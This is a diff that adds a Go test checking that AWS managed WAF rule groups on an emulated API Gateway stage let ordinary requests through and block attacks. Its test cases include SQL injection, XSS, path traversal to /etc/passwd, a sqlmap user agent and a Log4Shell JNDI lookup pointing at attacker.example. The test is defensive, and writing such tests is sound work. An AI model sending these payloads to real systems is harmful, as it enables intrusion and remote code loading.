@@ -206,3 +206,55 @@ func TestWAFDataPlane(t *testing.T) {
 	}
 	checkGatewayLog(t, dp.Gateway)
 }
+
+// TestWAFManagedGroups protects a stage with the Core, SQL database and
+// Known bad inputs managed rule groups and checks with curl that attacks
+// are blocked and ordinary requests are not.
+func TestWAFManagedGroups(t *testing.T) {
+	t.Parallel()
+	requireAWSCLI(t)
+	dp := startDataPlane(t, "")
+	c := newCLI(t, dp.Gateway)
+	waf := c.service("wafv2")
+	a := dp.newAPI(t, "waf-managed")
+	a.mock(t, "/items", "GET", `{"ok":true}`)
+	a.mock(t, "/items", "POST", `{"ok":true}`)
+	a.deploy(t, "prod")
+	items := a.url("prod", "/items")
+	dp.waitFor(t, items, 200, `{"ok":true}`)
+
+	group := func(name string, prio int) string {
+		return fmt.Sprintf(`{"Name":%q,"Priority":%d,"OverrideAction":{"None":{}},"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":%q}},`+
+			`"VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":%q}}`, name, prio, name, name)
+	}
+	_, aclArn, _ := wafACL(t, waf, "managed", "Allow={}", "["+group("AWSManagedRulesCommonRuleSet", 0)+","+
+		group("AWSManagedRulesSQLiRuleSet", 1)+","+group("AWSManagedRulesKnownBadInputsRuleSet", 2)+"]")
+	waf.ok(nil, "associate-web-acl", "--web-acl-arn", aclArn, "--resource-arn", "arn:aws:apigateway:us-east-1::/restapis/"+a.ID+"/stages/prod")
+	eventually(t, "the managed groups protect the stage", func() error {
+		if r, _ := tryCurl(items + "?id=1%27%20OR%20%271%27%3D%271"); r.Status != 403 {
+			return fmt.Errorf("got %s", r)
+		}
+		return nil
+	})
+	for _, tc := range []struct {
+		what   string
+		args   []string
+		status int
+	}{
+		{"a plain GET", []string{items + "?limit=20&sort=-created"}, 200},
+		{"a JSON POST", []string{"-X", "POST", "-H", "Content-Type: application/json", "-d", `{"name":"Jane O'Brien","note":"see you at 3pm -- thanks!"}`, items}, 200},
+		{"a browser's headers", []string{"-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0", "-H", "Cookie: session=abc123; theme=dark", "-e", "https://www.example.com/", items}, 200},
+		{"SQL injection in a query argument", []string{items + "?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, 403},
+		{"SQL injection in a JSON body", []string{"-X", "POST", "-H", "Content-Type: application/json", "-d", `{"id":"1' OR '1'='1"}`, items}, 403},
+		{"XSS in a form body", []string{"-X", "POST", "--data-urlencode", "comment=<script>alert(1)</script>", items}, 403},
+		{"path traversal", []string{items + "?file=..%2F..%2F..%2Fetc%2Fpasswd"}, 403},
+		{"no User-Agent", []string{"-A", "", items}, 403},
+		{"a scanner's User-Agent", []string{"-A", "sqlmap/1.7", items}, 403},
+		{"Log4Shell in a header", []string{"-H", "X-Api-Version: ${jndi:ldap://attacker.example/a}", items}, 403},
+	} {
+		if r := curlResult(t, tc.args...); r.Status != tc.status {
+			t.Errorf("%s: %s, want %d", tc.what, r, tc.status)
+		}
+	}
+	checkGatewayLog(t, dp.Gateway)
+}
